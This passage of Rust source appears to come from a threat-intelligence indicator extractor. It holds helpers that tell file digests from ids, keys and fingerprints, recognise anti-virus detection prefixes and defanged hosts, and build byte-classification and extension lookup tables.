        // name split at punctuation; so does a `:` after an AV word or a
        // detection prefix (`HEUR:`, `not-a-virus:`), not after a label
        // (`C2:evil.com`, `host:evil.com`).
        match ctx.text.as_bytes().get(ctx.start.wrapping_sub(1)) {
            Some(b'/' | b'!') => false,
            Some(b':') => !av_prefix_before(ctx.text, ctx.start - 1),
            _ => true,
        }
    }
}

/// Whether the word that ends at `colon` (letters, digits and `-`) names
/// an anti-virus detection (`HEUR:`, `Trojan:`, `not-a-virus:`, `UDS:`),
/// or there is no such word (`::`). Out of line: rarely asked.
#[inline(never)]
fn av_prefix_before(text: &str, colon: usize) -> bool {
    const PREFIXES: &[&str] = &["not-a-virus", "uds", "pdm", "hoax", "pua", "ai", "ml"];
    let before = text.as_bytes().get(..colon).unwrap_or_default();
    let len = before.iter().rev().take_while(|c| c.is_ascii_alphanumeric() || **c == b'-').count();
    let word = before.get(colon - len..).unwrap_or_default();
    word.is_empty()
        || is_listed_word(&AV_WORD_KEYS, word)
        || PREFIXES.iter().any(|p| p.as_bytes().eq_ignore_ascii_case(word))
}

/// Whether the value at `text[at..]`, of `n` hex digits, follows a key
/// that names an id: `"cid": "`, `device_id=`, `TraceId: ` (the key's last
/// two letters `id`, any case), unless the key also names a digest
/// (`file_md5_id`, `sha256_id`: a store that files samples by their hash).
/// A bare `id` names one only for 32 digits (a GUID): other lengths are
/// the digests that services file samples under (`"id": "<sha256>"`).
fn id_key_before(text: &[u8], at: usize, n: usize) -> bool {
    let before = text.get(..at).unwrap_or_default();
    if id_switch_before(before, n) {
        return true;
    }
    let mut i = before.len();
    let back_over = |i: &mut usize, pred: &dyn Fn(u8) -> bool, max: usize| {
        let mut n = 0;
        while n < max && *i > 0 && before.get(*i - 1).is_some_and(|&b| pred(b)) {
            *i -= 1;
            n += 1;
        }
    };
    back_over(&mut i, &|b| b == b'"' || b == b'\'', 1);
    back_over(&mut i, &|b| b == b' ' || b == b'\t', 4);
    if !matches!(i.checked_sub(1).and_then(|k| before.get(k)), Some(b':' | b'=')) {
        return false;
    }
    i -= 1;
    back_over(&mut i, &|b| b == b' ' || b == b'\t', 4);
    back_over(&mut i, &|b| b == b'"' || b == b'\'', 1);
    let key_end = i;
    back_over(&mut i, &|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'), 64);
    let key = before.get(i..key_end).unwrap_or_default();
    // `customerIDString` (CrowdStrike) names an id as `…Id` does.
    let key = key.strip_suffix(b"String").unwrap_or(key);
    key.len() >= 2
        && (n == 32 || key.len() > 2)
        && key.get(key.len() - 2..).is_some_and(|t| t.eq_ignore_ascii_case(b"id"))
        && ![&b"md5"[..], b"sha", b"hash", b"digest"].iter().any(|d| find_ci(key, d).is_some())
}

/// Whether the value that `before` ends before is the argument of a
/// command line's switch that names ids (`--detector-id 12c0…`,
/// `--finding-ids 5ec2… 86c9…`: later values of the list too), or a path
/// segment of an ARN (`arn:aws:guardduty:…:detector/12c0…/finding/5ec2…`).
fn id_switch_before(before: &[u8], n: usize) -> bool {
    let mut i = before.len();
    if before.last() == Some(&b'/') {
        let line =
            before.iter().rposition(|&b| matches!(b, b'\n' | b' ' | b'"')).map_or(0, |p| p + 1);
        return before.get(line..).is_some_and(|t| t.starts_with(b"arn:"));
    }
    for _ in 0..8 {
        let spaces =
            before.get(..i).unwrap_or_default().iter().rev().take_while(|&&b| b == b' ').count();
        if spaces == 0 {
            return false;
        }
        i -= spaces;
        let word_len = before
            .get(..i)
            .unwrap_or_default()
            .iter()
            .rev()
            .take_while(|b| !b.is_ascii_whitespace())
            .count();
        let word = before.get(i - word_len..i).unwrap_or_default();
        if word.starts_with(b"-") {
            let w = word.to_ascii_lowercase();
            return w.ends_with(b"-id") || w.ends_with(b"-ids") || w.ends_with(b"_id");
        }
        // An earlier value of the same list.
        if word.len() != n || !word.iter().all(u8::is_ascii_hexdigit) {
            return false;
        }
        i -= word_len;
    }
    false
}

/// Words of a label that make the hex after it something other than a
/// file's digest: TLS and SSH client fingerprints (`JA3`, `JA3S`, `HASSH`,
/// `JARM`), hashes of a part of a program (`imphash`, `pehash`,
/// `authentihash`, the Rich header), and keys, tokens, serial numbers.
const NOT_FILE_DIGEST: &[&[u8]] = &[
    b"ja3",
    b"hassh",
    b"jarm",
    b"imphash",
    b"pehash",
    b"authentihash",
    b"rich_",
    b"key",
    b"token",
    b"secret",
    b"serial",
    // A licence key (`"licence"="6E5B…"` in a RAT's registry settings).
    b"licen",
    b"nonce",
    b"salt",
    b"authorization",
    // A blockchain transaction, a commit.
    b"txid",
    b"tx hash",
    b"transaction",
    b"commit",
];

/// The names of file digests a label may give (`SHA256:`, `md5=`).
const FILE_DIGESTS: &[&[u8]] = &[b"md5", b"sha1", b"sha-1", b"sha256", b"sha-256", b"sha512"];

/// Whether the label before the hex value at `text[at..]` names it as no
/// file's digest ([`NOT_FILE_DIGEST`]): the label is what lies between
/// the value and the line's start (or a table cell's), the end of an
/// earlier hex value (`MD5=…,SHA256=…,IMPHASH=…` labels each value by its own key) or 48
/// bytes back, whichever is nearest. `JA3  3b70…`, `JA3S: 7264…`,
/// `HASSH (ssh client) 6495…`, `ja3.hash; content:"c07a…"`,
/// `pe.imphash() == "ebcb…"`, `"rc4_key": "10ba…"`, `"pubkey_sha1": "…"`.
/// A file-digest word after the last such word, in a label of its own
/// (`key=…, md5: …`), keeps the value a digest; within one word
/// (`pubkey_sha1`) it does not.
fn names_no_file_digest(text: &[u8], at: usize) -> bool {
    // Most digests start a line or a cell, or follow their own label
    // (`SHA256: `, `md5=`, `"sha1": "`): settled from the bytes right
    // before the value.
    let mut k = at;
    while k > 0
        && text
            .get(k - 1)
            .is_some_and(|b| matches!(b, b' ' | b'"' | b'\'' | b'`' | b':' | b'=' | b'('))
    {
        if at - k >= 6 {
            break;
        }
        k -= 1;
    }
    if k == 0 || matches!(text.get(k - 1), Some(b'\n' | b'|' | b'\t')) {
        return false;
    }
    let word_len = text.get(..k).map_or(0, |h| {
        h.iter()
            .rev()
            .take(12)
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
            .count()
    });
    let word = text.get(k - word_len..k).unwrap_or_default();
    let own_labels = [&b"hash"[..], b"hashes", b"digest"];
    if FILE_DIGESTS.iter().chain(&own_labels).any(|l| word.eq_ignore_ascii_case(l)) {
        return false;
    }
    let lo = at.saturating_sub(48);
    let Some(window) = text.get(lo..at) else { return false };
    // A table's cell (`|`, a tab) is labelled by its column's head, not
    // by the cells before it.
    let mut from =
        window.iter().rposition(|&b| matches!(b, b'\n' | b'|' | b'\t')).map_or(0, |p| p + 1);
    // The end of the last run of 16 or more hex digits.
    let mut run = 0usize;
    for (k, b) in window.iter().enumerate().skip(from) {
        if b.is_ascii_hexdigit() {
            run += 1;
        } else {
            if run >= 16 {
                from = k;
            }
            run = 0;
        }
    }
    let Some(label) = window.get(from..) else { return false };
    // A word inside a host name or an address listed before the value
    // (`keystone-cdn.net, 44d8…`, `0ja3[.]com and …`) names the host.
    let other_end = NOT_FILE_DIGEST
        .iter()
        .filter_map(|w| {
            let mut to = label.len();
            while let Some(p) = label.get(..to).and_then(|h| rfind_ci(h, w)) {
                if !in_host_token(label, p, p + w.len()) {
                    return Some(p + w.len());
                }
                to = p + w.len() - 1;
            }
            None
        })
        .max();
    let Some(other_end) = other_end else { return false };
    match FILE_DIGESTS.iter().filter_map(|w| rfind_ci(label, w)).max() {
        // The digest word has a label of its own when a byte between the
        // two ends a word.
        Some(d) if d >= other_end => !label.get(other_end..d).is_some_and(|between| {
            between.iter().any(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
        }),
        _ => true,
    }
}

/// Whether `piece` starts with a key auditd writes a command line's
/// arguments under (`a0=` … `a99=`, `proctitle=`), where they may be hex.
fn auditd_hex_key(piece: &[u8]) -> bool {
    if piece.starts_with(b"proctitle=") {
        return true;
    }
    let digits =
        piece.get(1..).unwrap_or_default().iter().take_while(|b| b.is_ascii_digit()).count();
    piece.first() == Some(&b'a')
        && (1..=2).contains(&digits)
        && piece.get(1 + digits) == Some(&b'=')
}

/// Whether an auditd key and its `=` end right before `at`
/// (`… a2=7767…`, `type=PROCTITLE proctitle=6375…`).
fn auditd_key_before(text: &[u8], at: usize) -> bool {
    let head = text.get(at.saturating_sub(12)..at).unwrap_or_default();
    let key_at = head.iter().rposition(|&b| b == b' ' || b == b'\n').map_or(0, |p| p + 1);
    head.ends_with(b"=") && auditd_hex_key(head.get(key_at..).unwrap_or_default())
}

/// The shortest hex run [`Extractor::hex_url`] decodes: `http://a.bc/`
/// is 12 bytes, 24 hex digits.
const MIN_HEX_URL: usize = 24;

/// The shortest Base64 blob [`Extractor::base64_url`] decodes: the 24
/// letters of the shortest link's 18 bytes (`http://a.bc/x` and more).
const MIN_BASE64_URL: usize = 24;

/// Whether the hex value that ends at `end` is the id of a VirusTotal URL
/// object (`{"id": "db54…", "type": "url", …}`): the SHA-256 of a URL's
/// text, not of a file.
fn names_a_url_object(text: &[u8], end: usize) -> bool {
    // Compared past spaces, without a copy: this runs for every digest.
    if text.get(end) != Some(&b'"') {
        return false;
    }
    let mut rest = text.get(end..(end + 24).min(text.len())).unwrap_or_default().iter();
    let mut want = b"\",\"type\":\"url\"".iter();
    loop {
        let Some(w) = want.next() else { return true };
        match rest.by_ref().find(|&&b| b != b' ') {
            Some(b) if b == w => {}
            _ => return false,
        }
    }
}

/// Whether `label[start..end]` lies in a token (what spaces delimit,
/// without the punctuation around it) that is a URL, an e-mail address or
/// a domain name, defanged or not: `ja3` in `0ja3[.]com`, `key` in
/// `hxxp://keys.top/a`. Code (`ja3.hash;`, `pe.imphash()`) is no host.
fn in_host_token(label: &[u8], start: usize, end: usize) -> bool {
    let s = label.get(..start).and_then(|h| h.iter().rposition(u8::is_ascii_whitespace));
    let e = label.get(end..).and_then(|t| t.iter().position(u8::is_ascii_whitespace));
    let token = label.get(s.map_or(0, |p| p + 1)..e.map_or(label.len(), |p| end + p));
    let Some(token) = token.and_then(|t| std::str::from_utf8(t).ok()) else { return false };
    let token =
        token.trim_matches(|c: char| matches!(c, ',' | ';' | '"' | '\'' | '(' | ')' | '<' | '>'));
    if token.contains("://") || token.contains("[://]") || token.contains('@') {
        return true;
    }
    let host = crate::refang(token);
    host.text.contains('.') && host.text.parse::<Domain>().is_ok()
}

/// The last place `n` occurs in `h`, ASCII case ignored.
fn rfind_ci(h: &[u8], n: &[u8]) -> Option<usize> {
    if n.is_empty() || h.len() < n.len() {
        return None;
    }
    (0..=h.len() - n.len())
        .rev()
        .find(|&s| h.get(s..s + n.len()).is_some_and(|w| w.eq_ignore_ascii_case(n)))
}

/// The digest that `s` (whose byte flags are `f`) is, when it is one: hex
/// of an MD5, SHA-1, SHA-256 or SHA-512 length holding both digits and
/// letters (hex of only digits or only letters is a number or a word).
fn digest_of(s: &str, f: u16) -> Option<Indicator> {
    if f & F_NOT_HEX != 0 || f & F_DIGIT == 0 || f & F_ALPHA == 0 {
        return None;
    }
    Some(match s.len() {
        32 => Indicator::Md5(s.parse().ok()?),
        40 => Indicator::Sha1(s.parse().ok()?),
        64 => Indicator::Sha256(s.parse().ok()?),
        128 => Indicator::Sha512(s.parse().ok()?),
        _ => return None,
    })
}

/// Where a file name in code starts: after the last quote or `=`, and
/// after the last `(` past it that no later `)` closes. Two passes without
/// a stack: back from the end to the last quote or `=`, then back again
/// matching each `)` with the nearest earlier `(` (the one a stack would
/// pop), so the first `(` left over is the stack's top.
fn name_start(rb: &[u8]) -> usize {
    let from =
        rb.iter().rposition(|c| matches!(c, b'\'' | b'"' | b'`' | b'=')).map_or(0, |p| p + 1);
    let mut depth = 0usize;
    for (i, &c) in rb.iter().enumerate().skip(from).rev() {
        match c {
            b')' => depth += 1,
            b'(' if depth == 0 => return i + 1,
            b'(' => depth -= 1,
            _ => {}
        }
    }
    from
}

/// The SHA-1 or SHA-256 digest written as colon-separated hex pairs
/// (`3C:9E:41:…`), when the line names it a fingerprint or a thumbprint
/// before it: other colon-separated hex (a certificate's serial number,
/// a transparency log's id, a signature) is no digest of a file.
#[inline(never)]
fn fingerprint(ctx: &Ctx<'_>, text: &str) -> Option<Indicator> {
    let b = text.as_bytes();
    let pairs = b.len().checked_add(1)? / 3;
    let shaped = (b.len() + 1) % 3 == 0
        && b.chunks(3).all(|c| {
            matches!(c, [x, y, b':'] | [x, y] if x.is_ascii_hexdigit() && y.is_ascii_hexdigit())
        });
    if !shaped || !matches!(pairs, 20 | 32) {
        return None;
    }
    // The line before it, at most 200 bytes back.
    let lo = ctx.start.saturating_sub(200);
    let window = ctx.text.as_bytes().get(lo..ctx.start)?;
    let before = window.get(window.iter().rposition(|&c| c == b'\n').map_or(0, |p| p + 1)..)?;
    let named = [&b"fingerprint"[..], b"thumbprint"].iter().any(|w| find_ci(before, w).is_some());
    if !named {
        return None;
    }
    let hex: String = text.chars().filter(|&c| c != ':').collect();
    digest_of(&hex, hex.bytes().fold(0u16, |acc, c| acc | flags_of(c)))
}

/// The shape of a [`Wallet`] address: its first bytes and length, letters
/// and digits only.
fn may_be_wallet(b: &[u8]) -> bool {
    let shape = match (b.first(), b.len()) {
        (Some(b'1' | b'3'), 26..=35) | (Some(b'4' | b'8'), 95 | 106) => true,
        (Some(b'b' | b'B'), 14..=90) => b.get(..3).is_some_and(|p| p.eq_ignore_ascii_case(b"bc1")),
        _ => false,
    };
    shape && b.iter().all(u8::is_ascii_alphanumeric)
}

/// Whether `b` has the shape of a [`Mac`]: `xx:xx:…`/`xx-xx-…` (17 bytes)
/// or `xxxx.xxxx.xxxx` (14); a failed parse builds an error.
fn may_be_mac(b: &[u8]) -> bool {
    match b.len() {
        17 => matches!(b.get(2), Some(b':' | b'-')),
        14 => b.get(4) == Some(&b'.') && b.get(9) == Some(&b'.'),
        _ => false,
    }
}

/// Whether `s` ends with `:` and a port, as every [`HostPort`] does; a
/// failed parse builds an error.
fn ends_with_port(s: &str) -> bool {
    // A byte search, as in `FileName`'s parse.
    s.bytes()
        .rposition(|b| b == b':')
        .and_then(|c| s.get(c + 1..))
        .is_some_and(|p| crate::types::domain::parse_port(p).is_some())
}

/// Whether `b` could parse as an [`Ipv4Cidr`] or a [`PortProtocol`]: both
/// start with a digit.
fn may_be_slash_kind(b: &[u8]) -> bool {
    b.first().is_some_and(u8::is_ascii_digit)
}

/// Whether `b` could parse as a [`PortProtocol`]: it ends with `/tcp`,
/// `/udp` or `/sctp`, any case.
fn may_be_port_protocol(b: &[u8]) -> bool {
    [&b"/tcp"[..], b"/udp", b"/sctp"].iter().any(|p| ends_with_ci(b, p))
}

/// Whether `ext` (any case) is in [`FILE_EXTENSIONS`].
fn is_file_extension(ext: &[u8]) -> bool {
    extension_flags(ext) & EXT_LISTED != 0
}

/// Whether `ext` (any case) is in [`FILE_EXTENSIONS`] but is not a
/// top-level domain (`exe`, `dmp`; not `com`, `zip`), so that no name
/// ending in it is a domain.
fn is_non_tld_extension(ext: &[u8]) -> bool {
    extension_flags(ext) == EXT_LISTED
}

/// In [`EXTENSION_FLAGS`]: the extension is in [`FILE_EXTENSIONS`].
const EXT_LISTED: u8 = 1;
/// In [`EXTENSION_FLAGS`]: the extension is also a top-level domain
/// ([`EXTENSION_TLDS`]).
const EXT_TLD: u8 = 2;
/// Slots of the extension table: a power of two, about twice the list.
const EXT_SLOTS: usize = 256;

/// The slot where probing for `key` starts.
const fn ext_slot(key: u128) -> usize {
    let folded = (key as u64) ^ ((key >> 64) as u64);
    (folded.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 56) as usize & (EXT_SLOTS - 1)
}

/// [`FILE_EXTENSIONS`] as an open-addressing table of [`ext_key`]s (zero
/// is an empty slot; no key is zero, its count byte is not), so that a
/// lookup costs one hash and, mostly, one comparison.
// Indexing in a const initialiser cannot panic at run time: a bound error
// would fail the build.
#[allow(clippy::indexing_slicing)]
const EXTENSION_TABLE: ([u128; EXT_SLOTS], [u8; EXT_SLOTS]) = {
    let mut keys = [0u128; EXT_SLOTS];
    let mut flags = [0u8; EXT_SLOTS];
    let mut i = 0;
    while i < FILE_EXTENSIONS.len() {
        let e = FILE_EXTENSIONS[i].as_bytes();
        let key = ext_key(e, true);
        let mut tld = false;
        let mut t = 0;
        while t < EXTENSION_TLDS.len() {
            let x = EXTENSION_TLDS[t].as_bytes();
            if ext_key(x, true) == key {
                tld = true;
            }
            t += 1;
        }
        let mut slot = ext_slot(key);
        while keys[slot] != 0 && keys[slot] != key {
            slot = (slot + 1) & (EXT_SLOTS - 1);
        }
        keys[slot] = key;
        flags[slot] = EXT_LISTED | if tld { EXT_TLD } else { 0 };
        i += 1;
    }
    (keys, flags)
};
const EXTENSION_KEYS: [u128; EXT_SLOTS] = EXTENSION_TABLE.0;
const EXTENSION_FLAGS: [u8; EXT_SLOTS] = EXTENSION_TABLE.1;

/// The [`EXT_LISTED`] and [`EXT_TLD`] flags of `ext` (any case); zero when
/// it is not in [`FILE_EXTENSIONS`].
fn extension_flags(ext: &[u8]) -> u8 {
    // No extension in the list is longer than 15 bytes.
    if ext.is_empty() || ext.len() > 15 {
        return 0;
    }
    let key = lower_key(ext) | (ext.len() as u128 & 0xff);
    let mut slot = ext_slot(key);
    // The table is never full: an empty slot ends every probe.
    for _ in 0..EXT_SLOTS {
        match EXTENSION_KEYS.get(slot) {
            Some(&k) if k == key => return EXTENSION_FLAGS.get(slot).copied().unwrap_or(0),
            Some(0) | None => return 0,
            Some(_) => slot = (slot + 1) & (EXT_SLOTS - 1),
        }
    }
    0
}

/// Whether `word` (any ASCII case) is one of the words behind `keys`
/// ([`word_keys`]).
fn is_listed_word(keys: &[u128], word: impl AsRef<[u8]>) -> bool {
    let b = word.as_ref();
    if b.is_empty() || b.len() > 16 || b.contains(&0) {
        return false;
    }
    keys.binary_search(&lower_key(b)).is_ok()
}

/// [`packed`] lower-cased, at run time, for up to 16 bytes (more are
/// ignored): one copy into a zeroed buffer and a lower-casing of all
/// sixteen bytes at once, where `packed` shifts a 128-bit integer per byte
/// (a tenth of the cost of a lookup in `domain_ok` went there).
#[inline]
fn lower_key(b: &[u8]) -> u128 {
    let mut buf = [0u8; 16];
    let n = b.len().min(16);
    if let (Some(dst), Some(src)) = (buf.get_mut(..n), b.get(..n)) {
        dst.copy_from_slice(src);
    }
    buf.make_ascii_lowercase();
    u128::from_be_bytes(buf)
}

/// Up to `n` bytes of `b` (optionally lower-cased) packed into the high
/// bytes of an integer, padded with zero bytes, so that a lookup compares
/// integers instead of calling `memcmp`.
const fn packed(b: &[u8], lower: bool, n: usize) -> u128 {
    let mut key = 0u128;
    let mut rest = b;
    let mut i = 0;
    while let [c, tail @ ..] = rest {
        if i == n {
            break;
        }
        let c = if lower { c.to_ascii_lowercase() } else { *c };
        key |= (c as u128) << (8 * (15 - i));
        rest = tail;
        i += 1;
    }
    key
}

/// A list word as a key: up to 16 bytes; list words hold no zero byte and
/// are at most 16 bytes (checked by a unit test).
const fn word_key(b: &[u8], lower: bool) -> u128 {
    packed(b, lower, 16)
}

/// An extension as a key: up to 15 bytes and, in the lowest byte, their
/// count.
const fn ext_key(b: &[u8], lower: bool) -> u128 {
    packed(b, lower, 15) | (b.len() as u128 & 0xff)
}

/// Sorted [`word_key`]s of lower-case `words`.
// Indexing in a const initialiser cannot panic at run time: a bound error
// would fail the build.
#[allow(clippy::indexing_slicing)]
const fn sorted_keys<const N: usize>(words: &[&str]) -> [u128; N] {
    let mut keys = [0u128; N];
    let mut i = 0;
    while i < N {
        let w = words[i].as_bytes();
        keys[i] = word_key(w, false);
        i += 1;
    }
    // Insertion sort: a few thousand steps at compile time.
    let mut i = 1;
    while i < N {
        let mut j = i;
        while j > 0 && keys[j - 1] > keys[j] {
            let t = keys[j];
            keys[j] = keys[j - 1];
            keys[j - 1] = t;
            j -= 1;
        }
        i += 1;
    }
    keys
}

const CODE_OBJECT_KEYS: [u128; CODE_OBJECTS.len()] = sorted_keys(CODE_OBJECTS);
const AV_WORD_KEYS: [u128; AV_WORDS.len()] = sorted_keys(AV_WORDS);

struct Ctx<'a> {
    text: &'a str,
    start: usize,
    end: usize,
    raw: &'a str,
    /// The byte flags of `raw` (`F_*`).
    flags: u16,
    /// The refanged piece, computed once for all the kinds that need it.
    refanged: std::cell::OnceCell<crate::Refanged<'a>>,
}

impl<'a> Ctx<'a> {
    /// The first `len` bytes of the piece, as a piece of their own.
    fn head(&self, len: usize) -> Option<Ctx<'a>> {
        let raw = self.raw.get(..len)?;
        Some(Ctx {
            text: self.text,
            start: self.start,
            end: self.start + len,
            raw,
            flags: raw.bytes().fold(0u16, |acc, b| acc | flags_of(b)),
            refanged: std::cell::OnceCell::new(),
        })
    }

    fn refanged(&self) -> &crate::Refanged<'a> {
        self.refanged.get_or_init(|| {
            // Every marker refang undoes holds a bracket, a backslash, a
            // colon or a non-ASCII character; without them there is
            // nothing to undo.
            if !may_need_refang(self.raw.as_bytes(), self.flags) {
                crate::Refanged { text: std::borrow::Cow::Borrowed(self.raw), defanged: false }
            } else if find_byte_from(self.raw.as_bytes(), 0, b' ').is_some() {
                // Joined across ` [at] ` / ` [dot] ` by the scanner.
                crate::refang(self.raw)
            } else {
                refang_text(self.raw)
            }
        })
    }
}

fn read_full<R: Read>(r: &mut R, buf: &mut [u8]) -> std::io::Result<usize> {
    let mut n = 0;
    while n < buf.len() {
        match r.read(buf.get_mut(n..).unwrap_or_default()) {
            Ok(0) => break,
            Ok(k) => n += k,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    Ok(n)
}

/// Byte classes for the scanner, one table lookup per byte.
const SEP: u8 = 1;
/// Bytes that make a segment worth a closer look (anything but letters and
/// wrapping punctuation).
const INTERESTING: u8 = 2;

// Indexing in a const initialiser cannot panic at run time: a bound error
// would fail the build.
#[allow(clippy::indexing_slicing)]
const CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        t[i] = if b.is_ascii_whitespace()
            || b.is_ascii_control()
            || matches!(b, b'"' | b'<' | b'>' | b',' | b';' | b'|' | b'`' | b'^')
        {
            SEP
        } else if b.is_ascii_alphabetic()
            || matches!(b, b'\'' | b'!' | b'?' | b'-' | b'&' | b'+' | b'~' | b'$' | b'#')
        {
            0
        } else {
            // digits, `.`, `:`, `/`, `\`, `@`, `[`, `(`, `{`, `%`, `=`, `*`,
            // `_` and every non-ASCII byte
            INTERESTING
        };
        i += 1;
    }
    t
};

/// The scanner's view of two bytes at once, indexed by the pair read as a
/// little-endian `u16`: bit 0 (bit 1) is set when the first (second) byte
/// is [`INTERESTING`], bit 2 (bit 3) when it is a [`SEP`]. Four lookups
/// put eight bytes side by side in a `u16` of four such nibbles, from
/// which [`next_segment_start`] reads positions without a byte loop.
// As for CLASS: indexing in a const initialiser cannot panic at run time.
#[allow(clippy::indexing_slicing)]
static PAIR_SCAN: [u8; 1 << 16] = {
    let mut t = [0u8; 1 << 16];
    let mut i = 0;
    while i < 1 << 16 {
        let (lo, hi) = (CLASS[i & 0xff], CLASS[i >> 8]);
        t[i] = (lo & INTERESTING) >> 1 | (hi & INTERESTING) | (lo & SEP) << 2 | (hi & SEP) << 3;
        i += 1;
    }
    t
};

const F_DOT: u16 = 1;
const F_COLON: u16 = 2;
const F_AT: u16 = 4;
const F_SLASH: u16 = 8;
const F_BACKSLASH: u16 = 16;
const F_DIGIT: u16 = 32;
const F_ALPHA: u16 = 64;
const F_NONASCII: u16 = 128;
const F_BRACKET: u16 = 256;
const F_NOT_HEX: u16 = 512;
const F_EQ: u16 = 1024;
const F_DASH: u16 = 2048;
/// ASCII bytes no domain name holds (anything but letters, digits, `-`,
/// `_` and `.`).
const F_NOT_DNS: u16 = 4096;
/// Quotes: `'`, `"` and `` ` ``.
const F_QUOTE: u16 = 32768;
/// Bytes that end a segment (as [`SEP`]).
const F_SEP: u16 = 8192;
/// Bytes that make a segment worth a closer look (as [`INTERESTING`]).
const F_INTERESTING: u16 = 16384;

// As for CLASS: indexing in a const initialiser cannot panic at run time.
#[allow(clippy::indexing_slicing)]
const FLAGS: [u16; 256] = {
    let mut t = [0u16; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        let mut f = match b {
            b'.' => F_DOT,
            b'[' | b'(' | b'{' => F_BRACKET,
            b':' => F_COLON,
            b'@' => F_AT,
            b'/' => F_SLASH,
            b'\\' => F_BACKSLASH,
            b'0'..=b'9' => F_DIGIT,
            b'a'..=b'z' | b'A'..=b'Z' => F_ALPHA,
            b'=' => F_EQ,
            b'-' => F_DASH,
            b'\'' | b'"' | b'`' => F_QUOTE,
            0x80.. => F_NONASCII,
            _ => 0,
        };
        if b < 0x80 && !(b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')) {
            f |= F_NOT_DNS;
        }
        if CLASS[i] & SEP != 0 {
            f |= F_SEP;
        }
        if CLASS[i] & INTERESTING != 0 {
            f |= F_INTERESTING;
        }
        if !b.is_ascii_hexdigit() {
            f |= F_NOT_HEX;
        }
        t[i] = f;
        i += 1;
    }
    t
};

/// [`FLAGS`] of two bytes at once, indexed by the pair read as a
/// little-endian `u16`: the segment loop looks up each pair once.
// As for CLASS: indexing in a const initialiser cannot panic at run time.
#[allow(clippy::indexing_slicing)]
static PAIR_FLAGS: [u16; 1 << 16] = {
    let mut t = [0u16; 1 << 16];
    let mut i = 0;
    while i < 1 << 16 {
        t[i] = FLAGS[i & 0xff] | FLAGS[i >> 8];
        i += 1;
    }
    t
};

/// The flags of the two bytes of `pair` (little-endian), ORed.
#[inline]
fn pair_flags(pair: u16) -> u16 {
    PAIR_FLAGS.get(usize::from(pair)).copied().unwrap_or(F_SEP)
}

/// The [`PAIR_SCAN`] nibble of the two bytes of `pair` (little-endian).
#[inline]
fn pair_scan(pair: u16) -> u16 {
    PAIR_SCAN.get(usize::from(pair)).copied().map_or(0b1111, u16::from)
}

#[inline]
fn flags_of(b: u8) -> u16 {
    FLAGS.get(usize::from(b)).copied().unwrap_or(F_NOT_HEX)
}

/// The class of a byte.
#[inline]
fn class_of(b: u8) -> u8 {
    // Any u8 indexes a 256-entry table; `get` keeps clippy's panic lint
    // satisfied and compiles to the same load.
    CLASS.get(usize::from(b)).copied().unwrap_or(SEP)
}

/// Interesting bits of a [`PAIR_SCAN`] word of eight bytes.
const SCAN_INTERESTING: u16 = 0x3333;
/// Separator bits of a [`PAIR_SCAN`] word of eight bytes.
const SCAN_SEP: u16 = 0xCCCC;

/// The [`PAIR_SCAN`] word of the eight bytes at `pos`, if there are eight.
#[inline]
fn scan_word(bytes: &[u8], pos: usize) -> Option<u16> {
    let c = bytes.get(pos..pos + 8)?;
    let pair = |k: usize| c.get(k..k + 2).and_then(|p| <[u8; 2]>::try_from(p).ok());
    let mut v = 0u16;
    for k in 0..4 {
        v |= pair_scan(pair(2 * k).map_or(0, u16::from_le_bytes)) << (4 * k);
    }
    Some(v)
}

/// The byte (0..8) of the highest separator bit of a [`PAIR_SCAN`] word
/// with at least one.
#[inline]
fn last_sep_byte(sep_bits: u16) -> usize {
    let hb = (15 - sep_bits.leading_zeros()) as usize;
    2 * (hb / 4) + (hb % 4) - 2
}

/// Where the segment holding the first [`INTERESTING`] byte at or after
/// `from` starts (every non-ASCII byte is interesting): after the last
/// separator before that byte, but not before `from`. Without an
/// interesting byte, the segment of the end of `bytes`. Eight bytes a step,
/// each byte classified once.
#[inline]
fn next_segment_start(bytes: &[u8], from: usize) -> usize {
    let mut pos = from;
    // The word of the last eight bytes that held a separator, and where.
    let mut last: Option<(usize, u16)> = None;
    while let Some(v) = scan_word(bytes, pos) {
        let int = v & SCAN_INTERESTING;
        if int != 0 {
            let bit = int.trailing_zeros();
            // The separators of the bytes before the interesting one: the
            // bits below its own separator bit.
            let before = v & SCAN_SEP & ((1u16 << (bit + 2)) - 1);
            if before != 0 {
                return pos + last_sep_byte(before) + 1;
            }
            return last.map_or(from, |(p, w)| p + last_sep_byte(w) + 1);
        }
        if v & SCAN_SEP != 0 {
            last = Some((pos, v & SCAN_SEP));
        }
        pos += 8;
    }
    // Fewer than eight bytes are left.
    let tail = bytes.get(pos..).unwrap_or_default();
    let at = tail.iter().position(|&b| class_of(b) & INTERESTING != 0).unwrap_or(tail.len());
    match tail.get(..at).unwrap_or_default().iter().rposition(|&b| is_sep(b)) {
        Some(k) => pos + k + 1,
        None => last.map_or(from, |(p, w)| p + last_sep_byte(w) + 1),
    }
}

/// Where the next line goes on with the indicator that the segment
/// `bytes[start..end]`, cut by the line break at `end`, began: the segment
/// ends in a defang dot or `@` (`update[.]`), in `-` after a host or path
/// (`marine-claims-`, `jquery-`), in `www.` after a scheme, or in `/` of a
/// URL whose next line holds a path's punctuation (`invoice-viewer.hta`).
/// The continuation is the next line's first word, after its indent.
fn wrapped_continuation(bytes: &[u8], start: usize, end: usize) -> Option<Wrap> {
    let seg = bytes.get(start..end)?;
    let nl = if bytes.get(end) == Some(&b'\r') { end + 2 } else { end + 1 };
    let ends_ci = |m: &[u8]| ends_with_ci(seg, m);
    let holds = |n: &[u8]| seg.windows(n.len()).any(|w| w == n);
    let marker =
        ["[.]", "(.)", "{.}", "[dot]", "(dot)", "@", "[@]"].iter().any(|m| ends_ci(m.as_bytes()));
    let body = seg.get(..seg.len().saturating_sub(1)).unwrap_or_default();
    let hyphen = seg.last() == Some(&b'-') && body.iter().any(|b| matches!(b, b'.' | b'/' | b'@'))
        || seg.last() == Some(&b'-') && holds(b"[.]");
    let www = ends_ci(b"://www.");
    // `https://docs.paperlantern-cloud.` / `com/view/quote.hta`: a host cut
    // after a dot, whose path goes on with the next line (checked below).
    let host_dot = seg.last() == Some(&b'.')
